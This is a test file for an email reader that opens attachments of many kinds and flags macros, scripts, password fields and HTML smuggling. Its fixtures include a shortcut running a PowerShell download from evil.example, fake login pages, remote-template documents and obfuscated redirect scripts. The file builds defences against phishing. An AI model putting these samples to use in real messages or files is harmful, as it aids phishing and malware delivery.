// Long because one reader meets every kind of file.
import fc from 'fast-check';
import { gzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import type { MailTools } from './mail-input.ts';
import { readMail } from './read-mail.ts';
import { compoundFile } from './testing/compound-file.ts';
import { expectSound } from './testing/invariants.ts';
import { mailSource } from './testing/mail-source.ts';
import { lockedZip, zipFile } from './testing/zip-file.ts';

const attach = async (name: string, content: string | Uint8Array, type?: string, tools?: MailTools) =>
  readMail(
    { content: mailSource({ text: 'See attached.', files: [{ name, content, ...(type && { type }) }] }) },
    tools,
  );
const firstOf = async (...given: Parameters<typeof attach>) => (await attach(...given)).attachments[0];

describe('an archive', () => {
  it('is listed, and each file in it is a part below it', async () => {
    const mail = await attach('a.zip', zipFile({ 'invoice.pdf.exe': 'MZ', 'docs/readme.txt': 'hello' }));
    expect(mail.attachments).toMatchObject([
      {
        name: 'a.zip',
        actualType: 'zip',
        entries: ['invoice.pdf.exe', 'docs/readme.txt'],
        isEncrypted: false,
        part: 1,
      },
    ]);
    expect(mail.parts).toEqual([
      { parent: null, kind: 'message', label: 'the message' },
      { parent: 0, kind: 'attachment', label: 'a.zip' },
      { parent: 1, kind: 'archive-entry', label: 'invoice.pdf.exe' },
      { parent: 1, kind: 'archive-entry', label: 'docs/readme.txt' },
    ]);
    expect(mail.attachments[0]?.text).toBe('hello');
  });

  it('that needs a password still tells its names', async () => {
    const mail = await attach('a.zip', lockedZip({ 'a.html': '<script>x</script>' }));
    expect(mail.attachments).toMatchObject([{ isEncrypted: true, entries: ['a.html'], hasScript: false }]);
    expect(mail.unread).toEqual(['“a.zip”: it needs a password']);
  });

  it('in an archive is opened too, and what is found there counts for the whole', async () => {
    const page =
      '<html><script>eval(atob("x"))</script><input type="password"><a href="https://evil.example/z">x</a>';
    const mail = await attach('outer.zip', zipFile({ 'inner.zip': zipFile({ 'login.html': page }) }, 0));
    expect(mail.attachments).toMatchObject([
      {
        entries: ['inner.zip', 'inner.zip/login.html'],
        hasScript: true,
        hasPasswordField: true,
        smuggling: ['atob', 'eval'],
      },
    ]);
    expect(mail.parts.map(({ parent, label }) => [parent, label])).toEqual([
      [null, 'the message'],
      [0, 'outer.zip'],
      [1, 'inner.zip'],
      [2, 'login.html'],
    ]);
    expect(mail.links).toMatchObject([
      { href: 'https://evil.example/z', origin: 'attachment', span: null, part: 3 },
    ]);
  });

  it('without its directory, or behind another archive, is still listed', async () => {
    const whole = zipFile({ 'a.exe': 'MZ'.repeat(100), 'b.txt': 'x'.repeat(100) }, 0);
    expect(await firstOf('a.zip', whole.subarray(0, 400))).toMatchObject({ entries: ['a.exe', 'b.txt'] });
    const both = new Uint8Array([...zipFile({ 'first.exe': 'MZ' }), ...zipFile({ 'second.txt': 'x' })]);
    expect(await firstOf('a.zip', both)).toMatchObject({ entries: ['first.exe', 'second.txt'] });
  });

  it('may be a gzip, with a tape archive inside', async () => {
    const name = gzipSync(Buffer.from('hello'), { filename: 'note.txt' });
    expect(await firstOf('x.gz', name)).toMatchObject({
      actualType: 'gzip',
      entries: ['note.txt'],
      text: 'hello',
    });
    const header = Buffer.alloc(512);
    header.write('evil.js');
    header.write('00000000005\0', 124);
    header.write('0', 156);
    header.write('ustar', 257);
    const tape = Buffer.concat([header, Buffer.from('run()'), Buffer.alloc(507 + 1024)]);
    expect(await firstOf('x.tgz', gzipSync(tape))).toMatchObject({ entries: ['evil.js'], text: 'run()' });
    expect(await firstOf('x.tar', tape)).toMatchObject({ entries: ['evil.js'] });
  });

  it('may be a disk image', async () => {
    const image = Buffer.alloc(20 * 2048);
    image[16 * 2048] = 1;
    image.write('CD001', 16 * 2048 + 1);
    image.writeUInt32LE(18, 16 * 2048 + 158);
    image.writeUInt32LE(2048, 16 * 2048 + 166);
    const record = Buffer.alloc(50);
    record[0] = 50;
    record.writeUInt32LE(19, 2);
    record.writeUInt32LE(4, 10);
    record[32] = 13;
    record.write('INVOICE.LNK;1', 33);
    record.copy(image, 18 * 2048);
    expect(await firstOf('a.iso', image)).toMatchObject({
      actualType: 'disk-image',
      entries: ['INVOICE.LNK'],
    });
  });
});

describe('a document', () => {
  const rels = (target: string, type = 'hyperlink') =>
    `<Relationships><Relationship Id="r1" Type="http://schemas/${type}" Target="${target}" TargetMode="External"/></Relationships>`;

  it('of today tells macros, words and where it leads', async () => {
    const mail = await attach(
      'a.docx',
      zipFile({
        '[Content_Types].xml': '<Types/>',
        'word/document.xml': '<w:p><w:r><w:t>Enable &amp; edit</w:t></w:r></w:p><w:p><w:t>now</w:t></w:p>',
        'word/vbaProject.bin': 'x',
        'word/_rels/document.xml.rels': rels('https://evil.example/x?a=1&amp;b=2'),
        'word/_rels/settings.xml.rels': rels('https://evil.example/t.dotm', 'attachedTemplate'),
        'word/embeddings/oleObject1.bin': 'x',
      }),
    );
    expect(mail.attachments).toMatchObject([
      {
        actualType: 'office-zip',
        hasMacros: true,
        text: 'Enable & edit\nnow',
        entries: [],
        embeddedObjects: ['oleObject1.bin'],
      },
    ]);
    expect(mail.links.map(({ href, origin }) => [href, origin])).toEqual([
      ['https://evil.example/x?a=1&b=2', 'attachment'],
      ['https://evil.example/t.dotm', 'attachment'],
    ]);
  });

  it('of before tells macros, a password, and the addresses in it', async () => {
    expect(
      await firstOf('a.doc', compoundFile({ '/WordDocument': 'x', '/Macros/VBA/_VBA_PROJECT': 'x' })),
    ).toMatchObject({
      actualType: 'office-old',
      hasMacros: true,
    });
    expect(await firstOf('a.doc', compoundFile({ '/WordDocument': 'x' }))).toMatchObject({
      hasMacros: false,
      isEncrypted: false,
    });
    expect(
      await firstOf('a.docx', compoundFile({ '/EncryptedPackage': 'x', '/EncryptionInfo': 'x' })),
    ).toMatchObject({ isEncrypted: true });
    const wide = Buffer.from(' HYPERLINK "https://wide.example/x" ', 'utf16le');
    const { links } = await attach(
      'a.doc',
      compoundFile({ '/WordDocument': wide, '/x': 'see https://plain.example/y"' }),
    );
    expect(links.map(({ href }) => href).toSorted()).toEqual([
      'https://plain.example/y',
      'https://wide.example/x',
    ]);
  });

  it('in RTF tells its words and what is packed into it', async () => {
    const mail = await attach(
      'a.doc',
      '{\\rtf1\\ansi Hello \\b world\\b0\\par{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata 0105}}{\\field{\\*\\fldinst HYPERLINK "https://evil.example/r"}{\\fldrslt here}}}',
    );
    expect(mail.attachments).toMatchObject([
      { actualType: 'rtf', text: 'Hello world\nhere', embeddedObjects: ['Equation.3'] },
    ]);
    expect(mail.links).toMatchObject([{ href: 'https://evil.example/r' }]);
  });

  it('in PDF is looked at, and read when a reader is at hand', async () => {
    const pdf = '%PDF-1.7 << /S /URI /URI (https://seen.example/) >> << /S /JavaScript >>';
    const looked = await attach('a.pdf', pdf);
    expect(looked.attachments).toMatchObject([{ actualType: 'pdf', hasScript: true, text: '' }]);
    expect(looked.links).toMatchObject([{ href: 'https://seen.example/', origin: 'pdf', part: 1 }]);
    const read = await attach('a.pdf', pdf, undefined, {
      readPdf: async () => ({
        text: ' Pay now ',
        links: ['https://seen.example/', 'https://read.example/'],
        hasScript: false,
        isEncrypted: true,
        qrCodes: ['https://code.example/'],
      }),
    });
    expect(read.attachments).toMatchObject([{ hasScript: true, isEncrypted: true, text: 'Pay now' }]);
    expect(read.links.map(({ href, origin }) => [href, origin])).toEqual([
      ['https://seen.example/', 'pdf'],
      ['https://read.example/', 'pdf'],
      ['https://code.example/', 'qr'],
    ]);
    const failing = await attach('a.pdf', pdf, undefined, { readPdf: () => Promise.reject(new Error('no')) });
    expect(failing.links).toHaveLength(1);
  });

  it('that is a shortcut or a notebook shows what it would start', async () => {
    const command = Buffer.from('powershell -c iwr https://evil.example/p.ps1', 'utf16le');
    const shortcut = Buffer.concat([
      Buffer.from('L\0\0\0\x01\x14\x02\0', 'latin1'),
      Buffer.alloc(76),
      command,
    ]);
    const mail = await attach('a.pdf.lnk', shortcut);
    expect(mail.attachments).toMatchObject([
      { actualType: 'shortcut', text: expect.stringContaining('powershell') },
    ]);
    expect(mail.links).toMatchObject([{ href: 'https://evil.example/p.ps1' }]);
    const notebook = Buffer.from(
      '\xe4R\\{\x8c\xd8\xa7M\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac',
      'latin1',
    );
    expect(await firstOf('a.one', notebook)).toMatchObject({
      actualType: 'onenote',
      embeddedObjects: ['file'],
    });
  });
});

describe('a page', () => {
  it('tells its words, links, password field and how it builds a file', async () => {
    const mail = await attach(
      'login.html',
      '<html><body onload="go()"><h1>Sign in</h1><form action="https://evil.example/post"><input type=password></form><a href="data.php">x</a><script>var b=new Blob([x]);u=URL.createObjectURL(b);location="https:\\/\\/script.example\\/x"</script>',
      'text/html',
    );
    expect(mail.attachments).toMatchObject([
      { actualType: 'html', hasScript: true, hasPasswordField: true, smuggling: ['Blob', 'createObjectURL'] },
    ]);
    expect(mail.attachments[0]?.text).toContain('Sign in');
    expect(mail.links.map(({ href }) => href)).toEqual([
      'https://evil.example/post',
      'https://script.example/x',
    ]);
  });

  it.each([
    [
      'base64',
      `atob("${Buffer.from('<form action="https://evil.example/b64"><input type="password">').toString('base64')}")`,
    ],
    [
      'percent signs',
      `unescape("${'<form action="https://evil.example/b64"><input type="password">'.replace(/./g, (c) => `%${c.charCodeAt(0).toString(16)}`)}")`,
    ],
    [
      'character numbers',
      `String.fromCharCode(${[...'<form action="https://evil.example/b64"><input type="password">'].map((c) => c.charCodeAt(0)).join(',')})`,
    ],
  ])('is read through %s', async (_, script) => {
    const mail = await attach('a.htm', `<html><script>document.write(${script})</script>`);
    expect(mail.attachments).toMatchObject([{ hasPasswordField: true }]);
    expect(mail.links.map(({ href }) => href)).toContain('https://evil.example/b64');
  });

  it('that is a drawing with a script is found out', async () => {
    const drawing =
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>location.href="https://evil.example/s"</script></svg>';
    const mail = await attach('logo.svg', drawing, 'image/svg+xml');
    expect(mail.attachments).toMatchObject([{ actualType: 'svg', hasScript: true }]);
    expect(mail.links.map(({ href }) => href)).toEqual(['https://evil.example/s']);
  });

  it('is not read wrong: a name in a script is no address', async () => {
    const page = '<html><script>show( item.name.link ); let x = shop.cart.app</script>';
    expect((await attach('a.html', page)).links).toEqual([]);
  });

  it('that is only a page is not accused', async () => {
    expect(
      await firstOf('a.html', '<html><p>Report</p><a href="https://a.example/">x</a></html>'),
    ).toMatchObject({
      hasScript: false,
      smuggling: [],
      hasPasswordField: false,
    });
  });
});

describe('an invitation', () => {
  const calendar =
    'BEGIN:VCALENDAR\r\nSUMMARY:Team meeting\r\nDESCRIPTION:Join https://evil.example/m\r\nEND:VCALENDAR';

  it.each([
    ['as a part of the text', 'text/calendar; method=REQUEST', 'inline' as const],
    ['as a file', 'application/ics', 'attachment' as const],
    ['as anything', 'application/octet-stream', 'attachment' as const],
  ])('is shown with the text, whether it came %s', async (_, type, disposition) => {
    const mail = await readMail({
      content: mailSource({
        text: 'Hi',
        files: [{ name: 'invite.ics', type, disposition, content: calendar }],
      }),
    });
    expect(mail.attachments).toMatchObject([{ actualType: 'calendar' }]);
    expect(mail.shown.text).toContain('Invitation: Team meeting');
    const [link] = mail.links;
    expect(link).toMatchObject({ href: 'https://evil.example/m', origin: 'calendar' });
    expect(mail.shown.text.slice(link?.span?.start, link?.span?.end)).toBe('hxxps://evil[.]example/m');
  });

  it('that came twice is shown once', async () => {
    const file = { type: 'text/calendar', content: calendar };
    const { shown } = await readMail({ content: mailSource({ text: 'Hi', files: [file, file] }) });
    expect(shown.text.split('Invitation:')).toHaveLength(2);
  });
});

describe('a message inside of a message', () => {
  const inner = mailSource({ headers: ['Subject: Inner'], text: 'https://inner.example/' });

  it.each([
    ['forwarded', undefined, 'message/rfc822', inner],
    ['a file', 'mail.eml', 'application/octet-stream', inner],
    ['in an archive', 'a.zip', 'application/zip', zipFile({ 'mail.eml': inner })],
  ])('is read like the outer one: %s', async (_, name, type, content) => {
    const mail = await readMail({
      content: mailSource({ text: 'fyi', files: [{ ...(name && { name }), type, content }] }),
    });
    expect(mail.attached).toMatchObject([
      { subject: 'Inner', links: [{ href: 'https://inner.example/', part: 0 }] },
    ]);
  });

  it('gives its part the name of its subject', async () => {
    const mail = await readMail({
      content: mailSource({ text: 'fyi', files: [{ type: 'message/rfc822', content: inner }] }),
    });
    expect(mail.parts[1]).toEqual({ parent: 0, kind: 'attached-message', label: 'Inner' });
  });

  it('is not seen in the report of a bounce', async () => {
    const report = 'Reporting-MTA: dns; x\r\nReceived-From-MTA: dns; y\r\nFrom: z\r\n';
    const mail = await readMail({
      content: mailSource({
        text: 'bounced',
        files: [
          { type: 'message/delivery-status', content: report },
          { type: 'text/rfc822-headers', content: inner },
        ],
      }),
    });
    expect(mail.attached).toEqual([]);
    expect(mail.attachments).toHaveLength(2);
  });
});

describe('a picture', () => {
  const png = Uint8Array.from([...Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), ...new Uint8Array(100)]);
  const qr = (...texts: string[]): MailTools => ({ readQrCodes: async () => texts });

  it('with a QR code has a part for it and a link', async () => {
    const mail = await attach(
      'scan.png',
      png,
      'image/png',
      qr('https://evil.example/qr', 'WIFI:S:x;;', 'evil.com/short'),
    );
    expect(mail.parts.slice(2)).toEqual([
      { parent: 1, kind: 'qr-code', label: 'QR code' },
      { parent: 1, kind: 'qr-code', label: 'QR code: WIFI:S:x;;' },
      { parent: 1, kind: 'qr-code', label: 'QR code' },
    ]);
    expect(mail.links).toEqual([
      { href: 'https://evil.example/qr', origin: 'qr', words: null, span: null, part: 2 },
      { href: 'http://evil.com/short', origin: 'qr', words: null, span: null, part: 4 },
    ]);
  });

  it('is looked at inside of documents, archives and the page itself', async () => {
    const tools = qr('https://evil.example/qr');
    const document = zipFile({ '[Content_Types].xml': 'x', 'word/media/image1.png': png });
    expect((await attach('a.docx', document, undefined, tools)).links).toHaveLength(1);
    expect((await attach('a.zip', zipFile({ 'a.png': png }), undefined, tools)).links).toHaveLength(1);
    const html = `<img src="data:image/png;base64,${Buffer.from(png).toString('base64')}">`;
    expect((await readMail({ content: mailSource({ html }) }, tools)).links).toHaveLength(1);
  });

  it('that a service draws out of an address is read from the address', async () => {
    const html =
      '<img src="https://api.qrserver.com/v1/create-qr-code/?size=150x150&amp;data=https%3A%2F%2Fevil.example%2Fq">';
    const mail = await readMail({ content: mailSource({ html }) });
    expect(mail.parts).toMatchObject([{ kind: 'message' }, { parent: 0, kind: 'qr-code' }]);
    expect(mail.links).toMatchObject([{ href: 'https://evil.example/q', origin: 'qr', part: 1 }]);
    const other = await readMail({
      content: mailSource({ html: '<img src="https://cdn.example/qr.png?data=https%3A%2F%2Fa.example">' }),
    });
    expect(other.links).toEqual([]);
  });

  it('costs a bounded number of looks', async () => {
    let looks = 0;
    const tools: MailTools = {
      readQrCodes: async () => {
        looks += 1;
        return [];
      },
    };
    const files = Array.from({ length: 40 }, (_, i) => ({ name: `${i}.png`, content: png }));
    await readMail({ content: mailSource({ text: 'x', files }) }, tools);
    expect(looks).toBe(10);
  });

  it('that there was no time to search is named as unread', async () => {
    const mail = await attach('a.png', png, 'image/png', { readQrCodes: async () => null });
    expect(mail.unread).toEqual(['“a.png”: it could not be searched for QR codes in time']);
    expect(mail.links).toEqual([]);
  });

  it('that breaks the reader is a picture without a code', async () => {
    const mail = await attach('a.png', png, 'image/png', {
      readQrCodes: () => Promise.reject(new Error('no')),
    });
    expect(mail.links).toEqual([]);
    expect(mail.attachments).toMatchObject([{ actualType: 'image' }]);
  });
});

it('reads the first fifty attachments and says how many more there are', async () => {
  const files = Array.from({ length: 60 }, (_, i) => ({ name: `${i}.txt`, content: 'x' }));
  const mail = await readMail({ content: mailSource({ text: 'x', files }) });
  expect(mail.attachments).toHaveLength(50);
  expect(mail.unread).toEqual(['10 more attachments']);
});

it('gives a sound answer for any file with any bytes changed', async () => {
  const page =
    '<html><script>atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUv")</script><a href="https://a.example/">x</a>';
  const kinds: [string, Uint8Array][] = [
    ['a.zip', zipFile({ 'a.html': page, 'b.zip': zipFile({ 'c.txt': 'x' }) })],
    ['a.docx', zipFile({ '[Content_Types].xml': 'x', 'word/document.xml': '<w:t>x</w:t>' })],
    ['a.doc', compoundFile({ '/WordDocument': 'https://a.example/', '/Macros/VBA/dir': 'x' })],
    ['a.gz', gzipSync(Buffer.from(page))],
    ['a.html', Buffer.from(page)],
    ['a.pdf', Buffer.from('%PDF-1.7 << /URI (https://a.example/) >> stream\nx\nendstream')],
    ['a.rtf', Buffer.from("{\\rtf1\\ansi\\u233 ?{\\*\\x y}\\'e9 z}")],
    ['a.ics', Buffer.from('BEGIN:VCALENDAR\r\nSUMMARY;X="a":b\r\n c')],
    ['a.eml', Buffer.from(mailSource({ html: page }))],
  ];
  const change = fc.tuple(fc.nat(), fc.nat(255));
  await fc.assert(
    fc.asyncProperty(
      fc.constantFrom(...kinds),
      fc.array(change, { maxLength: 20 }),
      async ([name, whole], changes) => {
        const bytes = Uint8Array.from(whole);
        for (const [at, value] of changes) bytes[at % bytes.length] = value;
        expectSound(
          await attach(name, bytes, undefined, { readQrCodes: async () => ['https://q.example/'] }),
        );
      },
    ),
    { numRuns: 400 },
  );
});
